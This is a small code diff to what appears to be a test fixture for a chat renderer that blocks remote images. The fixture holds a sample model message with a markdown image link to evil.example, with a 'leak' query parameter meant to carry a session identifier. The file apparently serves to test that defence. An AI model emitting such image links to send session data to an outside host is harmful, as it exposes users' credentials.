@@ -60,7 +60,7 @@ const links = [
 const images = [
   "The model tried to show an image:",
   "",
-  "![Revenue chart for Q3](https://evil.example/chart.png?leak=session-token)",
+  "![Revenue chart for Q3](https://evil.example/chart.png?leak=session-id)",
   "",
   "Remote images stay unloaded unless `allowImage` or `imageAllowList` allows them.",
 ].join("\n");
